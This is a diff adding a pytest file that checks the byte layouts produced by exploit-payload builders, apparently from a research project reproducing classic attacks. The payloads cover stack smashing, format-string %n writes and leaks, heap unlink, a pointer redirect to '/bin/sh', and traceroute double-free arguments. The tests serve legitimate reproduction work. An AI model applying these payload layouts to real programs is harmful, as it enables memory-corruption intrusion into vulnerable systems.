@@ -1,0 +1,78 @@
+"""Attack payload constructor tests."""
+
+import pytest
+
+from repro.attacks.payloads import (
+    double_free_args,
+    format_leak_payload,
+    format_write_payload,
+    heap_unlink_payload,
+    le32,
+    stack_pointer_redirect_payload,
+    stack_smash_payload,
+)
+
+
+class TestEncodings:
+    def test_le32(self):
+        assert le32(0x1002BC20) == b"\x20\xbc\x02\x10"
+        assert le32(-1) == b"\xff\xff\xff\xff"
+
+    def test_stack_smash_default_is_papers_24_a(self):
+        payload = stack_smash_payload()
+        assert payload == b"a" * 24
+
+    def test_stack_smash_custom(self):
+        assert stack_smash_payload(5, b"X") == b"XXXXX"
+
+
+class TestFormatWrite:
+    def test_zero_skid_plants_address_first(self):
+        payload = format_write_payload(0x64636261)
+        assert payload == b"abcd%n"
+
+    def test_wuftpd_shape_address_then_skid(self):
+        payload = format_write_payload(0x1002BC20, skid_words=6, gap_words=6)
+        assert payload == b"\x20\xbc\x02\x10" + b"%x" * 6 + b"%n"
+
+    def test_skid_beyond_gap_places_address_later(self):
+        payload = format_write_payload(0xAABBCCDD, skid_words=3, gap_words=0)
+        # ap lands at byte 12: 3 "%x" (6 bytes) + 6 filler, then the address.
+        assert payload.index(le32(0xAABBCCDD)) == 12
+        assert payload.count(b"%x") == 3
+        assert payload.endswith(b"%n")
+
+    def test_negative_offset_rejected(self):
+        with pytest.raises(ValueError):
+            format_write_payload(0x1000, skid_words=1, gap_words=5)
+
+    def test_leak_payload(self):
+        assert format_leak_payload(3) == b"%x.%x.%x."
+
+
+class TestHeapAndPointerPayloads:
+    def test_heap_unlink_layout(self):
+        payload = heap_unlink_payload(12, fd=0x11111111, bk=0x22222222)
+        assert payload[:12] == b"a" * 12
+        assert payload[16:20] == le32(0x11111111)
+        assert payload[20:24] == le32(0x22222222)
+        # The overwritten size keeps the free bit (odd value).
+        size = int.from_bytes(payload[12:16], "little")
+        assert size & 1
+
+    def test_pointer_redirect_layout(self):
+        payload = stack_pointer_redirect_payload(
+            buffer_length=8, pointer_offset=12, new_pointer=0x7FFF3E94,
+            tail=b"/bin/sh",
+        )
+        assert payload[:12] == b"A" * 12
+        assert payload[12:16] == le32(0x7FFF3E94)
+        assert payload.endswith(b"/bin/sh")
+
+    def test_pointer_inside_buffer_rejected(self):
+        with pytest.raises(ValueError):
+            stack_pointer_redirect_payload(16, 8, 0x1000, b"")
+
+    def test_double_free_args_shape(self):
+        assert double_free_args() == ["traceroute", "-g", "123", "-g", "5.6.7.8"]
+        assert double_free_args("9", "8")[2] == "9"
